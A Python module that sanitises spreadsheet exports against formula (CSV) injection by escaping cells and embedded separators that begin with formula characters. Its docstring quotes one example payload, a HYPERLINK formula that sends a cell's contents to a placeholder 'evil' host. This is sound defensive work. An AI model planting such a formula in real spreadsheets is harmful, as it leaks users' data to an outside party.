"""Text for spreadsheets: cells that show a value as written and are never run as a formula.

What leaves as XLSX or CSV (query lists to centres, the public export) carries text that came from
exports, and a spreadsheet runs a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage
return (OWASP "CSV injection": `=HYPERLINK("http://evil/?"&A1)` sends a cell away when clicked). A
leading `'` makes such a cell text.

Gotcha of CSV: a cell does not start only where the writer put one. Excel and LibreOffice in the `;`
locales of most centres (or told to split on tabs) start a cell after every `;` or tab of a line, and
a row after every line break, quoted or not, so `x;=1+1;y` written as one comma-separated value runs
=1+1 there. A formula start after a `,`, `;`, tab or line break (and any quotes) inside the text gets a
`'` too. Nothing else is changed: a value without a formula start is written as it is.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A separator or line break, the quotes a CSV writer doubles, then a formula start.
_CELL_START_INSIDE = re.compile(r"([,;\t\r\n]\"*)(?=[=+\-@\t\r])")


def spreadsheet_text(value: object) -> str:
    """`value` as text a spreadsheet shows as it is and never evaluates, however it splits the line."""
    text = _CELL_START_INSIDE.sub(r"\1'", "" if value is None else str(value))
    return "'" + text if text.startswith(FORMULA_START) else text
